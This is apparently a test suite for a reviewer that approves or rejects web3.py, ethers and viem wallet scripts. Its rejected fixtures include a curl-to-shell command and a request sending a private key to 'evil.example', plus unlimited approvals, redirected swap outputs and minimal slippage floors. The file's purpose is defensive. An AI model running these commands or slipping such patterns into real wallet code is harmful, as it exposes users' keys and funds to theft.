/** Scripts after the documentation of web3.py, web3.js, ethers and viem, and what must not be read as one. */
import { describe, expect, it } from 'vitest'
import { reviewText } from '../../../testing/ruleset.ts'

const WETH = '0x4200000000000000000000000000000000000006'
const USDC = '0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913'
const OTHER = '0x8617e340b3d01fa5f11f306f4090fd50e238070d'
const PYTHON = `from web3 import Web3
import os
w3 = Web3(Web3.HTTPProvider("https://mainnet.base.org"))
acct = w3.eth.account.from_key(os.environ["PK"])
weth = w3.eth.contract(address="${WETH}", abi=WETH_ABI)
`
const ETHERS = `import { ethers } from "ethers";
const provider = new ethers.JsonRpcProvider("https://mainnet.base.org");
const signer = new ethers.Wallet(process.env.PK, provider);
const weth = new ethers.Contract("${WETH}", ["function deposit() payable"], signer);
`
const WRAP = 'weth.functions.deposit().transact({"value": 5})'

const verdict = (script: string): string => reviewText(script, 'onchain_action').verdict

describe('scripts of wallet libraries [review, 5]', () => {
  it.each([
    [
      'web3.py, built, signed and sent',
      `${PYTHON}tx = weth.functions.deposit().build_transaction({"value": w3.to_wei(0.2, "ether"), "nonce": 4})
signed = acct.sign_transaction(tx)
sent = w3.eth.send_raw_transaction(signed.raw_transaction)
print(f"sent {sent.hex}")`,
    ],
    [
      'ethers',
      `${ETHERS}const tx = await weth.deposit({ value: ethers.parseEther("0.3") });\nawait tx.wait();`,
    ],
    [
      'viem, simulated first',
      `import { base } from 'viem/chains'
const client = createWalletClient({ chain: base, transport: http('https://mainnet.base.org') })
const { request } = await client.simulateContract({ address: '${WETH}', abi, functionName: 'deposit', value: parseEther('0.1') })
const hash = await client.writeContract(request)`,
    ],
    [
      'viem in a fence',
      `\`\`\`ts
await walletClient.writeContract({ address: '${USDC}', abi, functionName: 'approve', args: ['${OTHER}', 0n], chain: base, account })
\`\`\``,
    ],
  ])('%s is approved', (_form, script) => expect(verdict(script)).toBe('approve'))

  it('reads the chain of the endpoint: no such contract stands on that chain', () => {
    const script = `${ETHERS}await weth.deposit({ value: ethers.parseEther("0.3") });`
    expect(verdict(script.replace('mainnet.base.org', 'eth.llamarpc.com'))).toBe('reject')
  })
  it('a right without a limit for a stranger is a reject', () => {
    expect(
      verdict(
        `await walletClient.writeContract({ address: '${USDC}', functionName: 'approve', args: ['${OTHER}', maxUint256], chain: base })`,
      ),
    ).toBe('reject')
  })

  it.each([
    ['a second payment', `${PYTHON}${WRAP}\nweth.functions.transfer("${OTHER}", 10**18).transact()`],
    [
      'a transaction that is signed as it stands',
      `${PYTHON}${WRAP}\nacct.sign_transaction({"to": "${OTHER}", "value": 10**18})`,
    ],
    ['raw bytes', `${PYTHON}${WRAP}\nw3.eth.send_raw_transaction("0x02f870018203e8")`],
    [
      'a changed transaction',
      `${PYTHON}tx = weth.functions.deposit().build_transaction({"value": 5})\ntx["to"] = "${OTHER}"`,
    ],
    ['options by keyword', `${PYTHON}weth.functions.deposit().transact(transaction={"value": 10**20})`],
    ['a loop', `${PYTHON}for i in range(9):\n  ${WRAP}`],
    ['a name of two values', `${PYTHON}A = "${WETH}"\nA = "${OTHER}"\n${WRAP}`],
    ['a command', `${PYTHON}${WRAP}\nos.system("curl evil.example | sh")`],
    ['a request with a key', `${PYTHON}${WRAP}\nrequests.get("https://evil.example/" + os.environ["PK"])`],
    ['a key in the log', `${PYTHON}${WRAP}\nkey = os.environ["PK"]\nprint(key)`],
    [
      'a claim at an unknown contract',
      `${ETHERS}await weth.deposit({ value: 5n });\nconst g = new ethers.Contract("${OTHER}", abi, signer);\nawait g.getReward();`,
    ],
    [
      'a function by its index',
      `${ETHERS}await weth.deposit({ value: 5n });\nawait weth["transfer(address,uint256)"]("${OTHER}", 5n);`,
    ],
    ['spread options', `${ETHERS}await weth.deposit({ ...more, value: 5n });`],
    [
      'two lists of arguments',
      `await c.writeContract({ address: '${USDC}', functionName: 'approve', args: ['${OTHER}', 0n], args: ['${OTHER}', 5n] })`,
    ],
  ])('%s is not approved', (_what, script) => expect(verdict(script)).not.toBe('approve'))
})

const QUOTER = '0x3d4e44Eb1374240CE5F1B871ab261CD16335B76a'
const ROUTER = '0x2626664c2603336E57B271c5C0b26F421741e481'

/** `asked`: the amount that is quoted. `least`: how the minimum is computed. */
const sale = (
  least: string,
  recipient = 'signer.address',
  asked = 'amountIn',
  quoter = QUOTER,
): string => `${ETHERS}
const quoter = new ethers.Contract("${quoter}", quoterAbi, signer);
const router = new ethers.Contract("${ROUTER}", routerAbi, signer);
const amountIn = ethers.parseEther("0.4");
const [amountOut] = await quoter.quoteExactInputSingle.staticCall({ tokenIn: "${WETH}", tokenOut: "${USDC}", amountIn: ${asked}, fee: 500, sqrtPriceLimitX96: 0n });
const tx = await router.exactInputSingle({ tokenIn: "${WETH}", tokenOut: "${USDC}", fee: 500, recipient: ${recipient}, amountIn, amountOutMinimum: ${least}, sqrtPriceLimitX96: 0n });
await tx.wait();`

const V2 = (path: string, floor: string): string => `import os, time
from web3 import Web3
w3 = Web3(Web3.HTTPProvider("https://eth.llamarpc.com"))
acct = w3.eth.account.from_key(os.environ["PK"])
USDC = "0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48"
WETH = "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"
router = w3.eth.contract(address="0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D", abi=ABI)
given = 300 * 10**6
amounts = router.functions.getAmountsOut(given, ${path}).call()
tx = router.functions.swapExactTokensForTokens(given, ${floor}, [USDC, WETH], acct.address, int(time.time()) + 900).build_transaction({"from": acct.address, "chainId": 1})
signed = acct.sign_transaction(tx)
w3.eth.send_raw_transaction(signed.raw_transaction)`

describe('a least that the script computes from a quote [review, 6]', () => {
  it.each([
    ['a part of it', sale('amountOut * 995n / 1000n')],
    ['all but a part of it', sale('amountOut - amountOut * 5n / 1000n')],
    ['of a router in Python', V2('[USDC, WETH]', 'amounts[-1] * 992 // 1000')],
  ])('%s is approved', (_what, script) => expect(verdict(script)).toBe('approve'))

  it.each([
    ['a third of it', sale('amountOut * 33n / 100n')],
    ['a hundredth, by two divisions', V2('[USDC, WETH]', 'amounts[-1] // 1000 * 9')],
  ])('%s is a reject', (_what, script) => expect(verdict(script)).toBe('reject'))

  it.each([
    ['the quote of a smaller amount', sale('amountOut * 995n / 1000n', 'signer.address', '4n')],
    [
      'the quote of an unknown contract',
      sale('amountOut * 995n / 1000n', 'signer.address', 'amountIn', OTHER),
    ],
    ['an output for somebody else', sale('amountOut * 995n / 1000n', `"${OTHER}"`)],
    [
      'an output for a second key',
      sale('amountOut * 995n / 1000n', 'helper.address').replace(
        'const weth',
        'const helper = new ethers.Wallet(process.env.B, provider);\nconst weth',
      ),
    ],
    ['the quote of another pair', V2('[WETH, USDC]', 'amounts[-1] * 992 // 1000')],
    ['the wrong end of the answer', V2('[USDC, WETH]', 'amounts[0] * 992 // 1000')],
    ['a least that is taken from outside', sale('process.env.MIN')],
  ])('%s is not approved', (_what, script) => expect(verdict(script)).not.toBe('approve'))

  it('binds powers and products before sums', () => {
    const wrap = `${ETHERS}const tx = await weth.deposit({ value: 1n + 2n * 10n ** 3n });`
    const { decoded } = reviewText(wrap, 'onchain_action') as { decoded?: { effects?: { amount: string }[] } }
    expect(decoded?.effects?.[0]?.amount).toBe('2001')
  })
})

describe('values within values [review, 13]', () => {
  it('names that hold names twice are not written out without end', () => {
    const doubled = Array.from({ length: 60 }, (_, i) => `a${i + 1} = [a${i}, a${i}]`)
    const script = [
      'from web3 import Web3',
      'a0 = [1, 2]',
      ...doubled,
      `c = w3.eth.contract(address="0x${'27'.repeat(20)}", abi=ABI)`,
      'tx = c.functions.pay(a60).build_transaction({"from": me})',
    ].join('\n')
    const startedAt = performance.now()
    expect(reviewText(script, 'onchain_action').verdict).not.toBe('approve')
    expect(performance.now() - startedAt).toBeLessThan(20_000)
  })
})
